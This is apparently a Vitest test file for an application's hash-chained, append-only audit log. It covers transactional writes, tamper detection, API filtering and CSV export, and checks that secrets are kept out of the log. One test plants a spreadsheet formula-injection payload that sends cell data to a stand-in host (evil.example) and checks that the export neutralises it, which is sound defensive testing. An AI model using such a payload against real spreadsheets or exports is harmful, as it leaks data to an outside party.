/**
 * The audit trail: written with every state change in the same transaction, hash-chained,
 * append-only, verifiable from the command line, filterable and exportable through the API, and
 * free of secrets.
 */
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { eq } from 'drizzle-orm';
import { afterAll, describe, expect, it } from 'vitest';
import { sha256 } from '../../crypto/secrets.ts';
import { TestClient } from '../../test/client.ts';
import { buildMember, buildWorkspace, TEST_PASSWORD } from '../../test/factories.ts';
import { createTestApp } from '../../test/harness.ts';
import { apiOperations, buildPath, pathParams, queryParams, sample, withQuery } from '../../test/openapi.ts';
import { totpCode } from '../identity/totp.ts';
import { workspaces } from '../workspaces/workspaces.schema.ts';
import { verifyAuditChain } from './audit-verify.ts';

const t = await createTestApp();
afterAll(async () => t.close());
const { db, pool } = t.ctx.database;
const dbUrl = (t.ctx.database as typeof t.ctx.database & { url: string }).url;
const repoRoot = fileURLToPath(new URL('../../../', import.meta.url));

const { workspace, owner } = await buildWorkspace(t.ctx.database, 'Audit-Amt');
const c = new TestClient(t.app);
await c.login(owner.email);

const auditCount = async () => Number((await pool.query('SELECT count(*)::int AS n FROM audit_log')).rows[0].n);
const rowsAfter = async (id: number) => (await pool.query('SELECT * FROM audit_log WHERE id > $1 ORDER BY id', [id])).rows;
const lastId = async () => Number((await pool.query('SELECT coalesce(max(id), 0)::int AS n FROM audit_log')).rows[0].n);

async function cli(...args: string[]): Promise<{ code: number; out: string }> {
  const env = { ...process.env, DATABASE_URL: dbUrl, LOG_LEVEL: 'silent', RESONANZ_DATA_DIR: mkdtempSync(join(tmpdir(), 'resonanz-cli-')) };
  try {
    const r = await promisify(execFile)(process.execPath, ['server/cli.ts', ...args], { cwd: repoRoot, env });
    return { code: 0, out: r.stdout + r.stderr };
  } catch (e) {
    const err = e as { code?: number; stdout?: string; stderr?: string };
    return { code: typeof err.code === 'number' ? err.code : -1, out: `${err.stdout ?? ''}${err.stderr ?? ''}` };
  }
}

describe('writing', () => {
  it('every successful state change through the API writes audit rows carrying its request id; every refused one writes none', async () => {
    // Real ids so that the changes succeed: a member to re-role and remove, an invitation, a token.
    const member = await buildMember(t.ctx.database, workspace.id, ['editor']);
    const inv = await c.post(`/api/v1/workspaces/${workspace.id}/invitations`, { email: 'audit-invitee@example.org', roles: ['editor'] });
    const tok = await c.post('/api/v1/tokens', { name: 'audit', workspaceId: workspace.id, roles: ['owner'] });
    const ids: Record<string, string> = { workspaceId: workspace.id, userId: member.id, invitationId: inv.body.id, tokenId: tok.body.id, token: 'x'.repeat(43) };
    // Successful calls that change no audited state: ending the own session, starting a 2FA set-up
    // (nothing is enabled until the code is confirmed), asking for a reset mail.
    // Read-only POSTs (query check/preview) and personal UI state (notifications read) change no record.
    const noAudit = new Set([
      'POST /api/v1/auth/logout', 'POST /api/v1/profile/totp/setup', 'POST /api/v1/auth/password-reset/request',
      'POST /api/v1/workspaces/{workspaceId}/listening/queries/check', 'POST /api/v1/workspaces/{workspaceId}/listening/queries/preview',
      'POST /api/v1/workspaces/{workspaceId}/notifications/read',
    ]);
    const wrong: string[] = [];
    let audited = 0;
    for (const op of apiOperations(t.app).filter((o) => o.method !== 'GET')) {
      const path = buildPath(op, Object.fromEntries(pathParams(op).map((p) => [p.name, ids[p.name] ?? randomUUID()])));
      const url = withQuery(path, Object.fromEntries(queryParams(op).filter((q) => q.required).map((q) => [q.name, ids[q.name] ?? String(sample(q.schema))])));
      const body = op.body ? sample(op.body, { uuid: workspace.id, optional: true }) : undefined;
      const requestId = `audit-${op.method}-${op.path}`.replace(/[^\w.-]/g, '_');
      const before = await lastId();
      const r = await c.request(op.method, url, body, { 'x-request-id': requestId });
      const rows = await rowsAfter(before);
      const name = `${op.method} ${op.path}`;
      if (r.status >= 200 && r.status < 300 && !noAudit.has(name)) {
        if (rows.length === 0) wrong.push(`${name}: ${r.status} but no audit row`);
        else audited++;
        for (const row of rows) {
          if (row.request_id !== requestId) wrong.push(`${name}: row ${row.id} has request id ${row.request_id}`);
          if (row.ip !== '127.0.0.1') wrong.push(`${name}: row ${row.id} has ip ${row.ip}`);
        }
      } else if (r.status >= 400 && rows.length) {
        wrong.push(`${name}: refused with ${r.status} but wrote ${rows.map((x) => x.action).join(', ')}`);
      }
      if ((await c.get('/api/v1/auth/me')).status !== 200) await c.login(owner.email);
    }
    expect(wrong).toEqual([]);
    expect(audited).toBeGreaterThanOrEqual(6);
  });

  it('records who, what, which object and the before/after diff', async () => {
    const before = await lastId();
    const r = await c.patch(`/api/v1/workspaces/${workspace.id}`, { name: 'Audit-Amt (neu)' });
    expect(r.status).toBe(200);
    const [row] = await rowsAfter(before);
    expect(row).toMatchObject({ action: 'workspace.updated', object_type: 'workspace', object_id: workspace.id, workspace_id: workspace.id, actor_user_id: owner.id });
    expect(row.before.name).not.toBe('Audit-Amt (neu)');
    expect(row.after.name).toBe('Audit-Amt (neu)');
    expect(row.diff).toContainEqual(expect.objectContaining({ type: 'CHANGE', path: ['name'], value: 'Audit-Amt (neu)' }));
  });

  it('a refused change (the last owner demoting themselves) leaves no row and no change', async () => {
    const n = await auditCount();
    const r = await c.put(`/api/v1/workspaces/${workspace.id}/members/${owner.id}/roles`, { roles: ['admin'] });
    expect(r.status).toBe(422);
    expect(await auditCount()).toBe(n);
    const me = await c.get('/api/v1/auth/me');
    expect(me.body.workspaces.find((w: { id: string }) => w.id === workspace.id).roles).toEqual(['owner']);
  });

  it('shares the transaction of the change: when the audit row cannot be written, the change is rolled back', async () => {
    await pool.query(`CREATE FUNCTION audit_fail() RETURNS trigger AS $$ BEGIN RAISE EXCEPTION 'audit storage unavailable'; END; $$ LANGUAGE plpgsql`);
    await pool.query('CREATE TRIGGER audit_fail BEFORE INSERT ON audit_log FOR EACH ROW EXECUTE FUNCTION audit_fail()');
    try {
      const n = await auditCount();
      const r = await c.patch(`/api/v1/workspaces/${workspace.id}`, { name: 'Darf nicht bleiben' });
      expect(r.status).toBe(500);
      expect(r.headers['content-type']).toMatch(/problem\+json/);
      const [w] = await db.select().from(workspaces).where(eq(workspaces.id, workspace.id));
      expect(w!.name).toBe('Audit-Amt (neu)');
      expect(await auditCount()).toBe(n);
    } finally {
      await pool.query('DROP TRIGGER audit_fail ON audit_log');
      await pool.query('DROP FUNCTION audit_fail()');
    }
  });
});

describe('hash chain and append-only table', () => {
  it('verifies', async () => {
    const r = await verifyAuditChain(db);
    expect(r).toEqual({ ok: true, rows: await auditCount() });
  });

  it('rejects UPDATE and DELETE', async () => {
    await expect(pool.query(`UPDATE audit_log SET action = 'x' WHERE id = (SELECT max(id) FROM audit_log)`)).rejects.toThrow(/append-only/);
    await expect(pool.query('DELETE FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)')).rejects.toThrow(/append-only/);
  });

  it('the CLI passes on the intact chain and, after a superuser tampers with one row, names exactly that row', async () => {
    const intact = await cli('audit', 'verify');
    expect(intact.code).toBe(0);
    expect(intact.out).toMatch(/intact/);

    const ids = (await pool.query('SELECT id FROM audit_log ORDER BY id')).rows.map((r) => Number(r.id));
    const victim = ids[Math.floor(ids.length / 2)]!;
    const original = (await pool.query('SELECT action FROM audit_log WHERE id = $1', [victim])).rows[0].action;
    await pool.query('ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update');
    try {
      await pool.query(`UPDATE audit_log SET action = 'nothing.happened' WHERE id = $1`, [victim]);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: false, brokenAt: victim, reason: 'hash_mismatch' });
      const broken = await cli('audit', 'verify');
      expect(broken.code, broken.out).toBe(1);
      expect(broken.out).toContain(`row id ${victim} `);
    } finally {
      await pool.query('UPDATE audit_log SET action = $2 WHERE id = $1', [victim, original]);
      await pool.query('ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update');
    }
    expect((await verifyAuditChain(db)).ok).toBe(true);
  });

  it('names the row after a deleted one', async () => {
    const ids = (await pool.query('SELECT id FROM audit_log ORDER BY id')).rows.map((r) => Number(r.id));
    const i = Math.floor(ids.length / 3);
    const saved = (await pool.query('SELECT * FROM audit_log WHERE id = $1', [ids[i]])).rows[0];
    await pool.query('ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update');
    try {
      await pool.query('DELETE FROM audit_log WHERE id = $1', [ids[i]]);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: false, brokenAt: ids[i + 1], reason: 'prev_hash_mismatch' });
    } finally {
      const cols = Object.keys(saved);
      await pool.query(`INSERT INTO audit_log (${cols.join(',')}) VALUES (${cols.map((_, k) => `$${k + 1}`).join(',')})`, cols.map((k) => (k === 'before' || k === 'after' || k === 'diff') && saved[k] !== null ? JSON.stringify(saved[k]) : saved[k]));
      await pool.query('ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update');
    }
    expect((await verifyAuditChain(db)).ok).toBe(true);
  });
});

describe('API: filters, pagination, CSV', () => {
  const base = `/api/v1/workspaces/${workspace.id}/audit`;

  it('filters by action, object type, actor and time window', async () => {
    const editor = await buildMember(t.ctx.database, workspace.id, ['editor']);
    const ec = new TestClient(t.app);
    await ec.login(editor.email);
    const from = new Date(Date.now() - 1000).toISOString();
    await ec.patch('/api/v1/profile', { name: 'Erika Editor' });
    await c.post(`/api/v1/workspaces/${workspace.id}/invitations`, { email: 'filter@example.org', roles: ['analyst'] });

    const byAction = await c.get(`${base}?action=invitation.created`);
    expect(byAction.status).toBe(200);
    expect(byAction.body.items.length).toBeGreaterThan(0);
    expect(byAction.body.items.every((i: { action: string }) => i.action === 'invitation.created')).toBe(true);

    const byType = await c.get(`${base}?objectType=membership`);
    expect(byType.body.items.length).toBeGreaterThan(0);
    expect(byType.body.items.every((i: { objectType: string }) => i.objectType === 'membership')).toBe(true);

    const byActor = await c.get(`${base}?actorUserId=${editor.id}`);
    expect(byActor.body.items.map((i: { action: string }) => i.action).sort()).toEqual(['user.login', 'user.updated']);
    expect(byActor.body.items.every((i: { actorName: string }) => i.actorName === 'Erika Editor')).toBe(true);

    const window = await c.get(`${base}?from=${encodeURIComponent(from)}&to=${encodeURIComponent(new Date(Date.now() + 1000).toISOString())}`);
    expect(window.body.items.map((i: { action: string }) => i.action)).toEqual(['invitation.created', 'user.updated', 'user.login']);
    const before = await c.get(`${base}?to=${encodeURIComponent(from)}`);
    expect(before.body.items.some((i: { action: string; actorUserId: string }) => i.action === 'user.updated' && i.actorUserId === editor.id)).toBe(false);

    const global = await c.get(`/api/v1/audit?workspaceId=${workspace.id}&action=invitation.created`);
    expect(global.body.items).toEqual(byAction.body.items);
  });

  it('pages with a cursor, newest first, without gaps or repeats', async () => {
    const all = await c.get(`${base}?limit=200`);
    expect(all.body.nextCursor).toBeNull();
    const seen: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const r: { body: { items: { id: number }[]; nextCursor: string | null } } = await c.get(`${base}?limit=3${cursor ? `&cursor=${cursor}` : ''}`);
      seen.push(...r.body.items.map((i) => i.id));
      cursor = r.body.nextCursor;
      pages++;
    } while (cursor && pages < 100);
    expect(seen).toEqual(all.body.items.map((i: { id: number }) => i.id));
    expect(seen).toEqual([...seen].sort((x, y) => y - x));
    expect(pages).toBeGreaterThan(2);
  });

  it('exports CSV with spreadsheet formulas neutralised', async () => {
    const evil = await buildMember(t.ctx.database, workspace.id, ['editor']);
    const ec = new TestClient(t.app);
    await ec.login(evil.email);
    await ec.patch('/api/v1/profile', { name: '=HYPERLINK("https://evil.example/?x="&A1,"klick")' });
    await ec.patch('/api/v1/profile', { name: '@SUM(1+1)' });
    const r = await c.get(`${base}?format=csv&actorUserId=${evil.id}`);
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/csv/);
    expect(r.headers['content-disposition']).toMatch(/attachment/);
    const lines = r.text.trim().split('\r\n');
    expect(lines[0]).toBe('id,createdAt,actorName,actorUserId,action,objectType,objectId,requestId,ip,diff');
    expect(lines.length).toBe(4);
    // Every cell (quoted or not) must not start with a formula character.
    for (const line of lines.slice(1)) {
      expect(line).toContain(",'@SUM(1+1),");
      expect(line).not.toMatch(/(^|,)"?[=+@-]/);
    }
  });
});

describe('secrets', () => {
  it('never appear in audit rows: passwords, API tokens, invitation and reset links, TOTP secrets, recovery codes', async () => {
    const secrets: string[] = [TEST_PASSWORD];
    const u = await buildMember(t.ctx.database, workspace.id, ['admin']);
    const uc = new TestClient(t.app);
    await uc.login(u.email);
    const newPassword = 'Geheim-neues-Passwort-42';
    expect((await uc.post('/api/v1/profile/password', { currentPassword: TEST_PASSWORD, newPassword })).status).toBe(200);
    secrets.push(newPassword);
    const tok = await uc.post('/api/v1/tokens', { name: 'secret-check', workspaceId: workspace.id, roles: ['admin'] });
    secrets.push(tok.body.token, sha256(tok.body.token));
    const setup = await uc.post('/api/v1/profile/totp/setup');
    const en = await uc.post('/api/v1/profile/totp/enable', { code: totpCode(setup.body.secret, t.clock.now()) });
    expect(en.status).toBe(200);
    secrets.push(setup.body.secret, ...en.body.recoveryCodes);
    await uc.post(`/api/v1/workspaces/${workspace.id}/invitations`, { email: 'secret-invitee@example.org', roles: ['editor'] });
    const invToken = /token=([\w-]+)/.exec(t.mails.findLast((m) => m.to === 'secret-invitee@example.org')!.text)![1]!;
    const anon = new TestClient(t.app);
    const invPassword = 'Einladungs-Passwort-7';
    expect((await anon.post('/api/v1/invitations/accept', { token: invToken, name: 'Neu', password: invPassword })).status).toBe(200);
    secrets.push(invToken, sha256(invToken), invPassword);
    await anon.post('/api/v1/auth/password-reset/request', { email: 'secret-invitee@example.org' });
    const resetToken = /token=([\w-]+)/.exec(t.mails.findLast((m) => m.to === 'secret-invitee@example.org')!.text)![1]!;
    const resetPassword = 'Zurueckgesetzt-Passwort-9';
    expect((await anon.post('/api/v1/auth/password-reset', { token: resetToken, password: resetPassword })).status).toBe(200);
    secrets.push(resetToken, sha256(resetToken), resetPassword);

    const dump = (await pool.query('SELECT row_to_json(a)::text AS j FROM audit_log a')).rows.map((r) => r.j as string).join('\n');
    expect(dump).toContain('user.password_changed');
    expect(dump).toContain('api_token.created');
    for (const s of secrets) expect(dump, `secret ${s.slice(0, 6)}… in the audit trail`).not.toContain(s);
    expect(dump).not.toMatch(/\$argon2/);
    expect((await verifyAuditChain(db)).ok).toBe(true);
  });
});
